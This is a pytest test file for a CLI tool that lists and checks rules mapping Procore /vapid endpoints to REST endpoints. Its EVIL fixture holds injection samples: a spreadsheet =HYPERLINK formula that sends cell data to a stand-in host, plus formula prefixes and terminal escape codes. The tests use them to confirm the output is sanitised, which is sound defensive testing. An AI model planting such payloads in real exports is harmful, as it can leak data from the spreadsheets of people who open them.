"""The commands that browse the table, as a user runs them."""

from __future__ import annotations

import csv
import json
import os
import pty
import subprocess
import sys
import termios
from io import StringIO
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from migrator.cli import PROGRAM_NAME, program
from migrator.rules import table
from migrator.rules.rows import Fault, RuleError

PATH = "/projects/{project_id}/bid_packages"
VAPID = "/vapid" + PATH
TODAY = ["--as-of", "2026-11-23"]


def run(*args: str) -> Result:
    return CliRunner().invoke(program, ["rules", *args], prog_name=PROGRAM_NAME)


def ids(result: Result) -> list[str]:
    return [line.split()[0] for line in result.stdout.splitlines()]


# list


def test_list_prints_a_line_for_each_rule() -> None:
    result = run("list")

    assert result.exit_code == 0
    assert len(result.stdout.splitlines()) == len(table.load_rules().rules)
    assert result.stderr == ""


def test_list_aligns_id_status_method_and_paths() -> None:
    both = run("list", "--grep", "/vapid/projects/{project_id}/bid_packages").stdout.splitlines()
    without_method = run("list", "--grep", "bim-plans.batch").stdout

    assert [line.split() for line in both] == [
        ["bid-packages.list", "newer-only", "GET", VAPID, "GET", "/rest/v1.1" + PATH],
        ["bid-packages.create", "direct", "POST", VAPID, "/rest/v1.0" + PATH],
    ]
    assert len({line.index(VAPID) for line in both}) == 1
    assert without_method.split()[:3] == ["bim-plans.batch", "unverified", "-"]


def test_list_says_where_a_target_ends() -> None:
    name = "webhooks.hooks.create"
    before, after = (
        run("list", "--grep", name, "--as-of", day).stdout for day in ("2026-09-06", "2026-09-17")
    )

    assert before.endswith("/rest/v1.0/webhooks/hooks (sunset 2026-09-16, in 10 days)\n")
    assert after.endswith("/rest/v1.0/webhooks/hooks (sunset 2026-09-16, past)\n")
    assert run("list", "--grep", "todos.delete").stdout.endswith(" (deprecated)\n")


def test_list_takes_the_day_from_the_epoch_of_the_source() -> None:
    result = CliRunner().invoke(
        program,
        ["rules", "list", "--grep", "webhooks.hooks.create"],
        env={"SOURCE_DATE_EPOCH": "1789344000"},
    )

    assert "(sunset 2026-09-16, in 2 days)" in result.stdout


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        pytest.param(
            ["--status", "newer-only"], ["bid-packages.list", "submittals.delete"], id="status"
        ),
        pytest.param(["--area", "reports"], 2, id="area"),
        pytest.param(["--grep", "RECYCLE_BIN"], 4, id="text in any case"),
        pytest.param(["--grep", "omniauth"], ["settings.account.show"], id="text of a note"),
        pytest.param(["--grep", "/requisitions"], 6, id="text of a candidate"),
        pytest.param(
            ["--status", "moved", "--area", "vendors", "--grep", "sync"],
            ["vendors.sync.post"],
            id="all three",
        ),
    ],
)
def test_list_keeps_what_is_asked_for(args: list[str], expected: list[str] | int) -> None:
    result = run("list", *args)

    assert result.exit_code == 0
    if isinstance(expected, int):
        assert len(ids(result)) == expected
    else:
        assert ids(result) == expected


def test_list_of_nothing_says_so_on_stderr() -> None:
    result = run("list", "--grep", "no such words")

    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "No rule is like that.\n")


def test_list_as_json_is_one_document() -> None:
    result = run("list", "--status", "moved", "--format", "json")

    document = json.loads(result.stdout)
    assert len(document["rules"]) == 20
    assert {rule["status"] for rule in document["rules"]} == {"moved"}


def test_list_of_nothing_as_json_is_a_document_too() -> None:
    result = run("list", "--grep", "no such words", "--format", "json")

    assert json.loads(result.stdout) == {"rules": []}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        pytest.param(["--status", "unlisted"], "'unlisted' is not one of", id="status of no row"),
        pytest.param(["--area", "rfi"], "there is no area 'rfi': bids, bim, ", id="unknown area"),
        pytest.param(["rfis"], "unexpected extra argument", id="argument"),
    ],
)
def test_list_of_what_cannot_be_is_wrong_use(args: list[str], message: str) -> None:
    result = run("list", *args)

    assert (result.exit_code, result.stdout) == (2, "")
    assert message in result.stderr


# show


def test_show_prints_everything_that_is_known() -> None:
    result = run("show", "webhooks.hooks.create", "--as-of", "2026-11-23")

    assert result.exit_code == 0
    assert result.stdout == (
        "webhooks.hooks.create\n"
        "  vapid         POST /vapid/webhooks/hooks\n"
        "  rest          POST /rest/v1.0/webhooks/hooks\n"
        "  status        direct\n"
        "  area          webhooks\n"
        "  header        Procore-Company-Id\n"
        "  deprecated    2025-09-15\n"
        "  sunset        2026-09-16 (past)\n"
        "  successor     POST /rest/v2.0/companies/{company_id}/webhooks/hooks (inferred)\n"
        "  sources       client:unnamed public client,\n"
        "                client:sebastianvaldez-procore/webhook_project_init_script@d57944f,\n"
        "                jssdk2.3.1(base), client:adhurjaty/procore-gcal@69e87a9(base)\n"
        "  checked       2026-11\n"
        "  file          webhooks.toml (built in)\n"
    )


@pytest.mark.parametrize(
    ("name", "lines"),
    [
        pytest.param(
            "bids.list",
            [
                "  candidate     GET /rest/v1.0/companies/{company_id}/bids",
                "  candidate     GET /rest/v1.0/projects/{project_id}/bids",
                "  support 2017  production",
            ],
            id="candidates",
        ),
        pytest.param(
            "images.create",
            [
                "  hint          body field not in REST v1.0 docs: image.name",
                (
                    "                "
                    "(hints only: a reference of 2017 beside one of 2026; Procore confirms none)"
                ),
            ],
            id="hints",
        ),
        pytest.param(
            "bim-files.any",
            [
                "  vapid         /vapid/bim_files",
                "  rest          /rest/v1.0/bim_files",
                "  note          methods at v1.0: GET, POST",
            ],
            id="no method",
        ),
        pytest.param(
            "budget-line-items.list", ["  asks for      budget_view_id"], id="placeholder to find"
        ),
        pytest.param(
            "me.show",
            ["  header        Procore-Company-Id is not needed, but by a service account it is"],
            id="header exemption",
        ),
        pytest.param(
            "companies.list",
            ["  header        Procore-Company-Id is not needed, but by a service account it is"],
            id="the other exemption",
        ),
    ],
)
def test_show_prints_what_some_rules_have(name: str, lines: list[str]) -> None:
    printed = run("show", name).stdout.splitlines()

    assert [line for line in lines if line not in printed] == []


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        pytest.param(["GET /vapid/me"], ["me.show"], id="one word"),
        pytest.param(["get", "/vapid/me"], ["me.show"], id="two words, method in lower case"),
        pytest.param(["GET", "/vapid/me/?a=b"], ["me.show"], id="slash and query"),
        pytest.param(["GET", "/vapid/projects/7/rfis"], ["rfis.list"], id="value"),
        pytest.param(
            ["/vapid/vendors/sync"], ["vendors.sync.patch", "vendors.sync.post"], id="no method"
        ),
    ],
)
def test_show_takes_an_endpoint(words: list[str], expected: list[str]) -> None:
    result = run("show", *words, "--format", "json")

    assert [rule["id"] for rule in json.loads(result.stdout)["rules"]] == expected


def test_show_separates_rules_by_an_empty_line() -> None:
    result = run("show", "/vapid/vendors/sync")

    assert [each.split("\n")[0] for each in result.stdout.split("\n\n")] == [
        "vendors.sync.patch",
        "vendors.sync.post",
    ]


def test_show_as_json_has_the_names_of_the_files() -> None:
    result = run("show", "todos.create", "--format", "json")

    (rule,) = json.loads(result.stdout)["rules"]
    assert rule == {
        "id": "todos.create",
        "area": "schedule",
        "method": "POST",
        "vapid": "/vapid/todos",
        "rest": "/rest/v1.0/todos",
        "status": "direct",
        "candidates": [],
        "asks-for": [],
        "company-header": "required",
        "lifecycle": "deprecated",
        "deprecated": "2021-03-31",
        "sunset": None,
        "successor": "POST /rest/v1.0/projects/{project_id}/schedule/calendar_items",
        "successor-basis": "stated",
        "note": None,
        "hints": rule["hints"],
        "parameters": [],
        "sources": ["swagger2017", "jssdk2.3.1(base)", "jssdk1.2.0(base)"],
        "support-2017": "production",
        "checked": "2026-11",
        "file": "schedule.toml (built in)",
    }


@pytest.mark.parametrize(
    ("words", "message"),
    [
        pytest.param(
            ["rfi.list"], "No rule has the id 'rfi.list'. Did you mean rfis.list,", id="id"
        ),
        pytest.param(["rfis"], "No rule has the id 'rfis'. Did you mean rfis.", id="part of an id"),
        pytest.param(["#@!"], "No rule has the id '#@!'.", id="nothing like it"),
        pytest.param(
            ["/vapid/timecard_time_typ"],
            "The table does not know /vapid/timecard_time_typ. Did you mean timecard-time-types.",
            id="path",
        ),
        pytest.param(
            ["PUT", "/vapid/me"],
            "The table knows /vapid/me with GET only, not PUT. Did you mean me.show?",
            id="method",
        ),
        pytest.param(["/"], "The table does not know .", id="slash"),
        pytest.param(["\x1b[31m/x"], "The table does not know \\x1b[31m/x.", id="escape code"),
    ],
)
def test_show_of_something_unknown_exits_2_with_what_is_close(
    words: list[str], message: str
) -> None:
    result = run("show", *words)

    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.startswith(f"Error: {message}")


def test_show_of_nothing_is_wrong_use() -> None:
    assert run("show").exit_code == 2


def test_table_that_cannot_be_read_is_told_in_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(_: object) -> None:
        raise RuleError(Fault("rfis.toml", 3, 1, "no id"))

    monkeypatch.setattr("migrator.cli.rules.opening.load_rules", refuse)

    result = run("list")

    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == "Error: The table cannot be read: rfis.toml:3:1: no id\n"


# The forms of list


def test_list_as_csv_is_a_table_that_reads_back() -> None:
    rows = list(csv.reader(StringIO(run("list", "--format", "csv").stdout, newline="")))
    document = json.loads(run("list", "--format", "json").stdout)["rules"]

    assert rows[0] == list(document[0])
    assert len(rows) == len(document) + 1
    assert {len(row) for row in rows} == {len(rows[0])}
    assert [row[0] for row in rows[1:]] == [rule["id"] for rule in document]
    assert rows[1][rows[0].index("note")] == (document[0]["note"] or "")


def test_list_as_csv_of_nothing_has_its_head() -> None:
    assert run("list", "--grep", "no such words", "--format", "csv").stdout.startswith("id,area,")


def test_list_as_markdown_is_a_table() -> None:
    lines = run("list", "--status", "moved", "--format", "markdown").stdout.splitlines()

    assert lines[:2] == [
        "| id | status | method | vapid | Rest |",
        "| --- | --- | --- | --- | --- |",
    ]
    assert len(lines) == 22
    assert (
        "| `bids.list` | moved | GET | `/vapid/bids` | `GET /rest/v1.0/companies/{company_id}/bids`"
        " or `GET /rest/v1.0/projects/{project_id}/bids` |"
    ) in lines


EVIL = """
[[rule]]
id = "evil.list"
method = "GET"
vapid = "/vapid/evil"
status = "missing"
note = '=HYPERLINK("http://x.example/?"&A1,"a|b")'
sources = ["@SUM(1)", "+1", "<b>", "\\u001b[31mred\\u202e"]
"""


@pytest.fixture
def own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Make a project with rows of its own, and stand in it."""
    (tmp_path / "pyproject.toml").write_text('[tool.vapid-to-rest]\nrules = ["api/extra.toml"]\n')
    (tmp_path / "api").mkdir()
    (tmp_path / "api/extra.toml").write_text(EVIL)
    monkeypatch.chdir(tmp_path)
    return tmp_path / "api/extra.toml"


@pytest.mark.usefixtures("own")
def test_cells_of_csv_are_no_formulas() -> None:
    _, row = csv.reader(
        StringIO(run("list", "--area", "extra", "--format", "csv").stdout, newline="")
    )

    assert """'=HYPERLINK("http://x.example/?"&A1,"a|b")""" in row
    assert "'@SUM(1); +1; <b>; \\x1b[31mred\\u202e" in row


@pytest.mark.usefixtures("own")
@pytest.mark.parametrize(
    "args",
    [
        ["list", "--grep", "evil"],
        ["show", "evil.list"],
        ["show", "evil.list", "--format", "json"],
        *(["list", "--grep", "evil", "--format", form] for form in ("json", "csv", "markdown")),
    ],
    ids=" ".join,
)
def test_nothing_in_a_row_drives_a_terminal(args: list[str]) -> None:
    result = run(*args)

    assert result.exit_code == 0
    assert "evil.list" in result.stdout
    assert all(char.isprintable() or char in "\r\n" for char in result.stdout)


# A terminal's width


def run_on_terminal(columns: int, *args: str) -> str:
    """Return what a terminal of that width is sent."""
    reader, writer = pty.openpty()
    termios.tcsetwinsize(writer, (24, columns))
    environment = {name: text for name, text in os.environ.items() if name != "COLUMNS"}
    process = subprocess.Popen(
        [sys.executable, "-m", "migrator", "rules", *args], stdout=writer, env=environment
    )
    os.close(writer)
    sent = b""
    try:
        while chunk := os.read(reader, 65536):
            sent += chunk
    except OSError:
        # The other end is closed.
        pass
    os.close(reader)
    assert process.wait(timeout=60) == 0
    return sent.decode().replace("\r\n", "\n")


def test_list_on_a_narrow_terminal_stacks_what_one_line_cannot_hold() -> None:
    assert run_on_terminal(80, "list", "--grep", "webhooks.hooks.create", *TODAY) == (
        "webhooks.hooks.create  direct\n"
        "  POST   /vapid/webhooks/hooks\n"
        "         /rest/v1.0/webhooks/hooks (sunset 2026-09-16, past)\n"
    )


def test_list_on_a_wide_terminal_has_a_line_for_each_row() -> None:
    assert run_on_terminal(120, "list", "--grep", "webhooks.hooks.create", *TODAY).count("\n") == 1


@pytest.mark.parametrize("columns", [80, 120])
@pytest.mark.parametrize("args", [["stats"], ["show", "bids.list"]], ids=" ".join)
def test_text_keeps_to_the_width_of_the_terminal(columns: int, args: list[str]) -> None:
    lines = run_on_terminal(columns, *args).splitlines()

    assert max(map(len, lines)) <= columns


# Rows of a project's own


GOOD = """
[[rule]]
id = "rfis.list"
method = "GET"
vapid = "/vapid/projects/{project_id}/rfis"
rest = "/rest/v1.0/projects/{project_id}/rfis"
status = "direct"
note = "asked Procore"
sources = ["a letter"]
checked = "2026-11-20"
"""


def test_row_of_ones_own_replaces_the_one_of_its_id(own: Path) -> None:
    own.write_text(GOOD)

    (rule,) = json.loads(run("show", "rfis.list", "--format", "json").stdout)["rules"]

    assert (rule["note"], rule["sources"], rule["checked"]) == (
        "asked Procore",
        ["a letter"],
        "2026-11-20",
    )
    assert (rule["file"], rule["area"]) == (str(Path("api/extra.toml")), "rfis")
    assert len(run("list").stdout.splitlines()) == len(table.load_rules().rules)


def test_row_of_ones_own_says_its_file_in_show(own: Path) -> None:
    own.write_text(GOOD)

    assert f"  file          {Path('api/extra.toml')}\n" in run("show", "rfis.list").stdout
    assert "  file          rfis.toml (built in)\n" in run("show", "rfis.create").stdout


def test_file_of_ones_own_may_name_an_area(own: Path) -> None:
    own.write_text('area = "projects"\n' + GOOD)

    (rule,) = json.loads(run("show", "rfis.list", "--format", "json").stdout)["rules"]

    assert rule["area"] == "projects"


def test_later_file_of_ones_own_wins(own: Path) -> None:
    own.write_text(GOOD)
    (own.parent / "more.toml").write_text(GOOD.replace("asked Procore", "asked again"))
    (own.parents[1] / "pyproject.toml").write_text(
        '[tool.vapid-to-rest]\nrules = ["api/extra.toml", "api/more.toml"]\n'
    )

    assert "asked again" in run("show", "rfis.list").stdout


BAD_FILES = [
    pytest.param(GOOD.replace("direct", "fine"), ":7:1: rfis.list: status is 'fine'", id="row"),
    pytest.param(GOOD + GOOD, ":13:1: rfis.list: ", id="id twice"),
    pytest.param("[[rule]]\nid = \n", ":2:6: Invalid value", id="no TOML"),
    pytest.param(
        GOOD.replace("rfis.list", "mine.list"),
        ":5:1: mine.list: rfis.list in rfis.toml (built in) has the same method and path",
        id="the call of another row",
    ),
    pytest.param(None, ":1:1: cannot be read: No such file or directory", id="no file"),
    pytest.param("area = 1\nrule = []\n", ":1:1: area is not a text", id="area"),
    pytest.param("checked = '13'\nrule = []\n", ":1:1: checked is '13'", id="checked"),
    pytest.param("colour = '13'\nrule = []\n", ":1:1: unknown key colour", id="unknown key"),
    pytest.param("rule = [" + "[" * 5000, ":1:1: is nested too deep", id="nested"),
]


@pytest.mark.parametrize(("text", "message"), BAD_FILES)
@pytest.mark.parametrize(
    "args",
    [
        *(["rules", name] for name in ("list", "stats")),
        *([name] for name in ("scan", "check", "rewrite")),
        ["report", "-o", "report.html"],
    ],
    ids=" ".join,
)
def test_file_that_holds_something_else_ends_the_run_with_its_line(
    args: list[str], text: str | None, message: str, own: Path
) -> None:
    own.unlink()
    if text is not None:
        own.write_text(text)

    result = CliRunner().invoke(program, args, prog_name=PROGRAM_NAME)

    assert (result.exit_code, result.stdout) == (2, "")
    assert f"{Path('api/extra.toml')}{message}" in result.stderr
    assert result.stderr.count("\n") == 1


def test_file_that_is_huge_is_not_read(own: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("migrator.rules.files.LARGEST", 100)

    assert own.stat().st_size > 100
    assert "extra.toml:1:1: is larger than " in run("list").stderr


def test_file_that_is_none_is_not_waited_for(own: Path) -> None:
    own.unlink()
    os.mkfifo(own)

    assert "extra.toml:1:1: is not a regular file" in run("list").stderr


def test_file_with_a_byte_order_mark_is_read(own: Path) -> None:
    own.write_text("\ufeff" + GOOD.replace("\n", "\r\n"), encoding="utf-8", newline="")

    assert "asked Procore" in run("show", "rfis.list").stdout


def test_file_that_is_no_utf8_is_told(own: Path) -> None:
    own.write_bytes(b"# \xff\n")

    assert "extra.toml:1:1: is not UTF-8: byte at offset 2" in run("list").stderr


def test_settings_that_are_wrong_end_a_look_at_the_table(own: Path) -> None:
    (own.parents[1] / "pyproject.toml").write_text("[tool.vapid-to-rest]\nrules = 1\n")

    result = run("stats")

    assert result.exit_code == 2
    assert "rules in [tool.vapid-to-rest] must be a list of strings" in result.stderr


@pytest.mark.parametrize("form", ["text", "json", "markdown", "html"])
def test_scan_takes_rows_of_ones_own(form: str, own: Path) -> None:
    own.write_text(
        GOOD.replace("status", 'deprecated = "2026-11-01"\nsunset = "2026-12-24"\nstatus')
    )
    (own.parents[1] / "client.py").write_text(
        "import requests\n\n\ndef rfis(project_id):\n"
        '    return requests.get(f"https://api.procore.com/vapid/projects/{project_id}/rfis")\n'
    )

    result = CliRunner().invoke(program, ["scan", "--format", form, *TODAY])

    assert "sunset 2026-12-24 (in 31 days)" in " ".join(result.stdout.split())


# stats


def test_stats_count_by_status_lifecycle_and_area() -> None:
    document = json.loads(run("stats", "--format", "json", *TODAY).stdout)

    assert document["rows"] == 785
    assert document["as-of"] == "2026-11-23"
    assert document["by-status"] == {
        "direct": 519,
        "unverified": 87,
        "moved": 20,
        "newer-only": 2,
        "missing": 157,
    }
    assert document["by-lifecycle"] == {
        "past-sunset": 12,
        "sunset-ahead": 3,
        "deprecated": 51,
        "current": 540,
        "no-target": 179,
    }
    for part in ("by-status", "by-lifecycle"):
        counts = [area[part] for area in document["areas"].values()]
        assert {key: sum(each[key] for each in counts) for key in counts[0]} == document[part]
    assert sum(area["rows"] for area in document["areas"].values()) == 785


def test_stats_depend_on_the_day() -> None:
    before = json.loads(run("stats", "--format", "json", "--as-of", "2025-01-01").stdout)

    assert before["by-lifecycle"]["past-sunset"] == 0
    assert before["by-lifecycle"]["sunset-ahead"] == 15


def test_stats_as_text_have_the_same_numbers() -> None:
    lines = run("stats", *TODAY).stdout.splitlines()

    assert lines[0] == "785 rows in 46 areas, as of 2026-11-23"
    assert [line.split()[:2] for line in lines if line.startswith("unverified ")] == [
        ["unverified", "87"]
    ]
    assert [line.split() for line in lines if line.startswith("webhooks ")] == [
        ["webhooks", "5", "3", "2", "0", "0", "0", "5"]
    ]


# lint


def test_lint_passes_on_the_built_in_table() -> None:
    result = run("lint")

    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr == "3,063 good rows in 53 files, nothing wrong.\n"


def test_lint_looks_at_rows_of_ones_own_as_well(own: Path) -> None:
    own.write_text(GOOD.replace("GET", "get"))

    result = run("lint")

    assert result.exit_code == 1
    assert result.stdout == (
        f"{Path('api/extra.toml')}:4:1: rfis.list: "
        "method is 'get', not one of GET, POST, PATCH, PUT, DELETE\n"
    )
    assert result.stderr == "3,063 good rows in 54 files, 1 fault.\n"


@pytest.mark.parametrize("name", ["api/extra.toml", "api"])
def test_lint_of_given_files_looks_at_those_alone(name: str, own: Path) -> None:
    own.write_text(GOOD)

    result = run("lint", name)

    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr == "1 good row in 1 file, nothing wrong.\n"


def test_lint_of_a_file_prints_nothing_that_drives_a_terminal(own: Path) -> None:
    own.write_text(EVIL.replace("evil.list", "\\u001b[2J"))

    result = run("lint", "api/extra.toml")

    assert result.exit_code == 1
    assert "id is '\\x1b[2J'" in result.stdout


def test_lint_of_no_file_is_wrong_use() -> None:
    assert run("lint", "no-such-file.toml").exit_code == 2


@pytest.mark.usefixtures("own")
def test_lint_of_a_table_at_fault_tells_it_and_goes_on(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> None:
        raise RuleError(Fault("rfis.toml", 3, 1, "no id"))

    monkeypatch.setattr("migrator.cli.rules.lint.load_rules", refuse)

    assert run("lint", "api/extra.toml").exit_code == 0
